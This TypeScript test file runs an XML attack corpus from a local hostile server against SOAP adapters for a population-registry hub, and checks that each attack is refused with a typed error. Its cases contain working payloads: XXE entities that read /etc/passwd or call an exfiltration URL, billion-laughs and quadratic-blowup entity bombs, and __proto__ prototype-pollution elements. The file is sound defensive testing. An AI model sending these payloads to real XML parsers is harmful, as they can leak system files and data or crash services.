/**
 * An XML attack corpus, generated here (nothing big is committed), served by a hostile SOAP server to
 * the population database's client and to a run-time registry adapter built from the same WSDL. Each
 * answer must end in a typed AdapterError decided by the hub's limits (not by a timer), with memory
 * bounded, no request to the "exfiltration" server an external entity names, Object.prototype
 * untouched — and afterwards a normal call still succeeds.
 */
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { DEMO_CITIZEN_ID, createPopulationDbClient, createPopulationDbSimulator, populationDbWsdl, type PopulationDbSimulator } from '../../adapters/population-db';
import { RegistryTransport } from '../../adapters/registry/registry-transport';
import { describeWsdl, type ServiceDescription } from '../../adapters/registry/service-description';
import { IssueList } from '../../adapters/registry/validation-error';
import { AdapterError, type AdapterErrorCode, type XmlViolation } from '../../adapters/soap';

const SOAP_NS = 'http://schemas.xmlsoap.org/soap/envelope/';
const envelope = (body: string, prolog = '<?xml version="1.0" encoding="utf-8"?>') =>
  `${prolog}<soap:Envelope xmlns:soap="${SOAP_NS}"><soap:Body>${body}</soap:Body></soap:Envelope>`;
const answer = (inner: string) => envelope(`<TraCuuCongDanResponse xmlns="urn:vn:gov:dancu:tracuu:v1">${inner}</TraCuuCongDanResponse>`);

/** How the hostile server answers one POST. */
type Attack =
  | { kind: 'body'; status?: number; contentType?: string; body: string }
  /** Streams `totalBytes` of `prefix` + filler without a content-length, until the client hangs up. */
  | { kind: 'stream'; totalBytes: number; prefix: string; filler: string };

interface Case {
  name: string;
  attack: (exfiltrationUrl: string) => Attack;
  code: AdapterErrorCode;
  violation?: XmlViolation;
}

const MB = 1024 * 1024;
const lol = () => {
  const entities = ['<!ENTITY lol0 "lol">'];
  for (let i = 1; i <= 10; i += 1) entities.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
  return `<!DOCTYPE lolz [${entities.join('')}]>`;
};

const CORPUS: Case[] = [
  {
    name: 'XXE reading file:///etc/passwd',
    attack: () => ({ kind: 'body', body: envelope(answer('<CongDan><SoDinhDanh>&xxe;</SoDinhDanh></CongDan>'), '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>') }),
    code: 'BAD_RESPONSE',
    violation: 'DOCTYPE',
  },
  {
    name: 'XXE calling a local http server (general and parameter entities)',
    attack: (url) => ({
      kind: 'body',
      body: envelope(answer('<CongDan><SoDinhDanh>&steal;</SoDinhDanh></CongDan>'), `<!DOCTYPE d [<!ENTITY % remote SYSTEM "${url}/dtd"> %remote; <!ENTITY steal SYSTEM "${url}/steal">]>`),
    }),
    code: 'BAD_RESPONSE',
    violation: 'DOCTYPE',
  },
  { name: 'billion laughs', attack: () => ({ kind: 'body', body: envelope(answer('<CongDan><HoTen>&lol10;</HoTen></CongDan>'), lol()) }), code: 'BAD_RESPONSE', violation: 'DOCTYPE' },
  {
    name: 'quadratic blowup',
    attack: () => ({ kind: 'body', body: envelope(answer(`<CongDan><HoTen>${'&a;'.repeat(50_000)}</HoTen></CongDan>`), `<!DOCTYPE d [<!ENTITY a "${'x'.repeat(50_000)}">]>`) }),
    code: 'BAD_RESPONSE',
    violation: 'DOCTYPE',
  },
  { name: '100,000 levels of nesting', attack: () => ({ kind: 'body', body: answer(`${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}`) }), code: 'BAD_RESPONSE', violation: 'DEPTH' },
  { name: '50 MB of text, streamed', attack: () => ({ kind: 'stream', totalBytes: 50 * MB, prefix: envelope('').slice(0, 120) + '<TraCuuCongDanResponse><CongDan><HoTen>', filler: 'A' }), code: 'TOO_LARGE' },
  {
    name: 'one element with a million attributes',
    attack: () => ({ kind: 'body', body: answer(`<CongDan ${Array.from({ length: 1_000_000 }, (_, i) => `a${i}=""`).join(' ')}/>`) }),
    code: 'TOO_LARGE',
  },
  {
    name: 'one element with 100,000 attributes (inside the byte cap)',
    attack: () => ({ kind: 'body', body: answer(`<CongDan ${Array.from({ length: 100_000 }, (_, i) => `a${i}=""`).join(' ')}/>`) }),
    code: 'BAD_RESPONSE',
    violation: 'ATTRIBUTES',
  },
  { name: '__proto__ elements', attack: () => ({ kind: 'body', body: answer('<CongDan><__proto__><polluted>yes</polluted></__proto__></CongDan>') }), code: 'BAD_RESPONSE', violation: 'RESERVED_NAME' },
  { name: 'constructor/prototype elements', attack: () => ({ kind: 'body', body: answer('<constructor><prototype><polluted>yes</polluted></prototype></constructor>') }), code: 'BAD_RESPONSE', violation: 'RESERVED_NAME' },
  { name: '__proto__ and constructor attributes', attack: () => ({ kind: 'body', body: answer('<CongDan __proto__="yes" constructor="yes"/>') }), code: 'BAD_RESPONSE', violation: 'RESERVED_NAME' },
  {
    name: 'a SOAP fault with a huge detail (HTTP 500)',
    attack: () => ({ kind: 'body', status: 500, body: envelope(`<soap:Fault><faultcode>soap:Server</faultcode><faultstring>x</faultstring><detail>${'d'.repeat(900_000)}</detail></soap:Fault>`) }),
    code: 'BAD_RESPONSE',
    violation: 'TEXT_LENGTH',
  },
  {
    name: 'a SOAP fault with a detail past the byte cap',
    attack: () => ({ kind: 'body', status: 500, body: envelope(`<soap:Fault><faultcode>soap:Server</faultcode><detail>${'<e>d</e>'.repeat(MB)}</detail></soap:Fault>`) }),
    code: 'TOO_LARGE',
  },
  { name: 'truncated XML', attack: () => ({ kind: 'body', body: answer('<CongDan><SoDinhDanh>0010900').slice(0, -40) }), code: 'BAD_RESPONSE', violation: 'MALFORMED' },
  { name: 'mismatched tags', attack: () => ({ kind: 'body', body: answer('<CongDan><SoDinhDanh>1</HoTen></CongDan>') }), code: 'BAD_RESPONSE', violation: 'MALFORMED' },
  { name: 'a wrong content type', attack: () => ({ kind: 'body', contentType: 'text/html; charset=utf-8', body: answer('<CongDan/>') }), code: 'BAD_RESPONSE', violation: 'CONTENT_TYPE' },
];

describe('XML attack corpus against the SOAP adapters', () => {
  let simulator: PopulationDbSimulator;
  let simulatorUrl: string;
  let hostile: Server;
  let exfiltration: Server;
  let endpoint: string;
  let exfiltrationUrl: string;
  const exfiltrationRequests: string[] = [];
  let current: Attack | undefined;
  let registry: ServiceDescription;

  const listen = async (server: Server) => {
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  };
  const close = async (server: Server) => {
    server.closeAllConnections();
    await new Promise<void>((resolve) => server.close(() => resolve()));
  };

  const serveAttack = (attack: Attack, res: ServerResponse) => {
    if (attack.kind === 'body') {
      res.writeHead(attack.status ?? 200, { 'content-type': attack.contentType ?? 'text/xml; charset=utf-8' });
      return void res.end(attack.body);
    }
    res.writeHead(200, { 'content-type': 'text/xml; charset=utf-8' });
    const chunk = Buffer.alloc(64 * 1024, attack.filler);
    let written = 0;
    res.write(attack.prefix);
    const pump = () => {
      while (written < attack.totalBytes && !res.destroyed) {
        written += chunk.length;
        if (!res.write(chunk)) return void res.once('drain', pump);
      }
      res.end();
    };
    pump();
  };

  /**
   * Normal answers: the real simulator's answer to the first (population client's) request, then that
   * same answer replayed — a registry adapter sends no ThongTinYeuCau header, which the simulator requires.
   */
  let normalAnswer: { status: number; contentType: string; body: Buffer } | undefined;
  const answerNormally = async (req: IncomingMessage, body: Buffer, res: ServerResponse) => {
    if (!normalAnswer) {
      const upstream = await fetch(`${simulatorUrl}${req.url}`, { method: 'POST', headers: req.headers as Record<string, string>, body });
      normalAnswer = { status: upstream.status, contentType: upstream.headers.get('content-type') ?? 'text/xml', body: Buffer.from(await upstream.arrayBuffer()) };
    }
    res.writeHead(normalAnswer.status, { 'content-type': normalAnswer.contentType });
    res.end(normalAnswer.body);
  };

  beforeAll(async () => {
    simulator = createPopulationDbSimulator();
    simulatorUrl = new URL((await simulator.start()).url).origin;
    exfiltration = createServer((req, res) => {
      exfiltrationRequests.push(`${req.method} ${req.url}`);
      res.end('<!ENTITY leaked "x">');
    });
    exfiltrationUrl = await listen(exfiltration);
    hostile = createServer((req, res) => {
      const chunks: Buffer[] = [];
      req.on('data', (c: Buffer) => chunks.push(c));
      req.on('end', () => {
        if (req.method === 'GET') {
          res.writeHead(200, { 'content-type': 'text/xml' });
          return void res.end(populationDbWsdl(endpoint));
        }
        if (current) return serveAttack(current, res);
        answerNormally(req, Buffer.concat(chunks), res).catch(() => res.destroy());
      });
    });
    endpoint = `${await listen(hostile)}/csdl-dan-cu`;
    const issues = new IssueList();
    registry = (await describeWsdl(populationDbWsdl(endpoint), issues))!;
    expect(issues.items).toEqual([]);
  });

  afterAll(async () => {
    await close(hostile);
    await close(exfiltration);
    await simulator.stop();
  });

  afterEach(() => {
    current = undefined;
  });

  const audit = { requestId: 'xml-attack', actor: 'security-test', purpose: 'test' };
  // No retries and no breaker: each attack must be refused on its own merits, once.
  const population = () => createPopulationDbClient({ wsdlUrl: `${endpoint}?wsdl`, timeoutMs: 10_000, policy: { retry: { attempts: 1 }, circuit: false } });
  const registryAdapter = () =>
    new RegistryTransport({
      system: 'REGISTRY_TEST',
      kind: 'SOAP',
      endpoint,
      operation: registry.operations.get('TraCuuCongDan')!,
      wsdlText: registry.wsdlText,
      maxResponseBytes: MB,
    });
  const viaPopulation = (client: ReturnType<typeof population>) => client.lookup(DEMO_CITIZEN_ID, audit);
  const viaRegistry = (adapter: RegistryTransport) =>
    adapter.send('TraCuuCongDan', { SoDinhDanh: DEMO_CITIZEN_ID }, { timeoutMs: 10_000, meta: { sink: { raw: '' } } });

  const refusal = async (promise: Promise<unknown>): Promise<AdapterError> => {
    const outcome = await promise.then(
      (value) => ({ value }),
      (error: unknown) => ({ error }),
    );
    expect(outcome).toHaveProperty('error');
    expect((outcome as { error: unknown }).error).toBeInstanceOf(AdapterError);
    return (outcome as { error: AdapterError }).error;
  };

  it('answers normally before the attacks', async () => {
    await expect(viaPopulation(population())).resolves.toMatchObject({ personalId: DEMO_CITIZEN_ID });
    await expect(viaRegistry(registryAdapter())).resolves.toMatchObject({ CongDan: { SoDinhDanh: DEMO_CITIZEN_ID } });
  });

  describe.each([
    ['the population database client', 'population'],
    ['a registry adapter', 'registry'],
  ] as const)('%s', (_label, target) => {
    let client: ReturnType<typeof population>;
    let adapter: RegistryTransport;
    let baseline: number;
    beforeAll(() => {
      client = population();
      adapter = registryAdapter();
      baseline = process.memoryUsage().rss;
    });

    it.each(CORPUS.map((c) => [c.name, c] as const))('refuses %s with a typed error', async (_name, attack) => {
      current = attack.attack(exfiltrationUrl);
      const err = await refusal(target === 'population' ? viaPopulation(client) : viaRegistry(adapter));
      // The limits decided, not the timer: no TIMEOUT, and the rule named where one applies.
      expect({ code: err.code, violation: err.violation }).toEqual({ code: attack.code, violation: attack.violation });
      expect(err.retryable).toBe(false);
      expect(process.memoryUsage().rss - baseline).toBeLessThan(200 * MB);
    });

    it('is still whole afterwards: no request left the hub, no prototype changed, a normal call succeeds', async () => {
      expect(exfiltrationRequests).toEqual([]);
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
      expect(Object.prototype).not.toHaveProperty('polluted');
      const result = target === 'population' ? viaPopulation(client) : viaRegistry(adapter);
      await expect(result).resolves.toMatchObject(target === 'population' ? { personalId: DEMO_CITIZEN_ID } : { CongDan: { SoDinhDanh: DEMO_CITIZEN_ID } });
    });
  });
});
